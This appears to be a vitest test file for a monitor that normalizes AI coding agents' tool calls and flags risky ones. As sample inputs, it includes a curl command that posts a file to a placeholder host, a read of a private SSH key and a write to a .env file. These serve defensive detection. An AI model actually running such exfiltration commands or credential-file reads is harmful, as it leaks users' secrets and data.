import { describe, expect, it } from 'vitest';
import { normalizeTool } from './native-tools.js';
import { McpRegistry } from './registry.js';

const none = new McpRegistry([]);
const tool = (name: string, input: unknown, cwd = '/work/app') => normalizeTool({ name, input, callId: 'c', cwd }, none);

describe('normalizeTool', () => {
  it('gives each agent\'s shell one native name, with classes from the command', () => {
    for (const name of ['Bash', 'run_shell_command', 'bash', 'Shell']) {
      const t = tool(name, { command: 'curl -d @x https://h.example' });
      expect(t.tool).toEqual({ server: 'native', name: 'Bash', callId: 'c' });
      expect(t.capabilities).toContain('sends-out');
    }
  });

  it('maps file tools, and flags credential files and paths outside the workspace', () => {
    expect(tool('view', { path: 'src/a.ts' })).toMatchObject({ tool: { name: 'Read' }, capabilities: ['reads-private', 'reads-untrusted'], findings: [] });
    expect(tool('Read', { file_path: '/home/dev/.ssh/id_ed25519' }).findings.map((f) => f.kind)).toEqual(['file.secret-read', 'file.outside-workspace']);
    expect(tool('Write', { file_path: '/work/app/.env', content: 'A=1' }).findings.map((f) => f.kind)).toEqual(['file.secret-write']);
    expect(tool('edit', { path: '../other/x.ts' }).findings.map((f) => f.kind)).toEqual(['file.outside-workspace']);
    expect(tool('read_file', { absolute_path: '/work/app/.env.example' }).findings).toEqual([]);
  });

  it('treats a URL fetch as bringing in untrusted content and contacting the host', () => {
    expect(tool('WebFetch', { url: 'https://x.example', prompt: 'summarize' }).capabilities).toEqual(['reads-untrusted', 'sends-out']);
  });

  it('leaves an unknown tool to the engine (name-based, pessimistic)', () => {
    expect(tool('FrobnicateWidget', {}).capabilities).toBeUndefined();
  });

  it('maps mcp__server__tool, and raises a shadow-server finding only when a registry exists and lacks it', () => {
    expect(tool('mcp__github__create_issue', { title: 't' })).toMatchObject({ tool: { server: 'github', name: 'create_issue' }, mcp: true, findings: [] });
    const registry = new McpRegistry([{ name: 'github' }]);
    const shadow = normalizeTool({ name: 'mcp__pastebin__create', input: {}, callId: undefined, cwd: undefined }, registry);
    expect(shadow.findings.map((f) => [f.kind, f.severity])).toEqual([['mcp.shadow-server', 'high']]);
    expect(normalizeTool({ name: 'mcp__github__list', input: {}, callId: undefined, cwd: undefined }, registry).findings).toEqual([]);
  });

  it('reads Cursor\'s MCP:server:tool names', () => {
    expect(tool('MCP:linear:create_issue', {}).tool).toEqual({ server: 'linear', name: 'create_issue', callId: 'c' });
  });

  it('parses a JSON-string tool input, and wraps any other value', () => {
    expect(tool('mcp__s__t', '{"q":1}').args).toEqual({ q: 1 });
    expect(tool('mcp__s__t', 'plain').args).toEqual({ input: 'plain' });
  });
});
